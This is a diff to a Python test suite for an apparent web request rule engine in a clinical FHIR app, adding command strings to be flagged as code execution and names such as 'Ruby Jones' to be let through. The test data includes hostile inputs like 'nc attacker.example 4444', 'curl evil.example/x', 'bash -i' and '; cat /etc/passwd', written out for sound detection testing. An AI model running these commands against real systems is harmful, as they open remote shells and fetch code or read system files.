@@ -48,6 +48,16 @@ def score(value: str, target: str = "query") -> Findings:
         ("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss"),
         ("; cat /etc/passwd", "rce"),
         ("| id", "rce"),
+        ("id -u", "rce"),
+        ("whoami", "rce"),
+        ("sudo id", "rce"),
+        ("time ls", "rce"),
+        ("ls -la /", "rce"),
+        ("ruby -e 'exec(\"sh\")'", "rce"),
+        ("ping 10.0.0.1", "rce"),
+        ("curl evil.example/x", "rce"),
+        ("nc 192.0.2.9 4444", "rce"),
+        ("bash -i", "rce"),
         ("| nc attacker.example 4444", "rce"),
         ("; curl -s http://attacker.example/x", "rce"),
         ("$(whoami)", "rce"),
@@ -126,6 +136,22 @@ def test_rules_score_attack_spellings(value: str, category: str) -> None:
         "Referral to the Auckland City Hospital (ACH) / Starship",
         "Whānau hui held; kaumātua present",
         "e.g. 1 in 5 patients; or 20%",
+        # names and FHIR tokens that are also command names
+        "Ruby",
+        "ruby",
+        "Ruby Jones",
+        "Perl",
+        "Ping",
+        "Ping Li",
+        "Sh",
+        "Who",
+        "Bash",
+        "Curl",
+        "Robert Curl",
+        "id",
+        "id,meta",
+        "php",
+        "python",
     ],
 )
 def test_rules_pass_fhir_syntax_and_clinical_prose(value: str) -> None:
@@ -190,6 +216,14 @@ def test_paranoia_level_two_adds_broader_rules() -> None:
     RuleEngine(2).scan("body", value, strict)
     assert score(value, "body").score == 0
     assert strict.score > 0
+
+
+@pytest.mark.parametrize("value", ["id", "Ruby", "who", "ping"])
+def test_paranoia_level_two_reads_a_bare_command_word_as_crs_does(value: str) -> None:
+    strict = Findings()
+    RuleEngine(2).scan("query", value, strict)
+    assert score(value).score == 0
+    assert "rce-bare-command" in strict.rules
 
 
 def _request(query: tuple[tuple[str, str], ...]) -> CanonicalRequest:
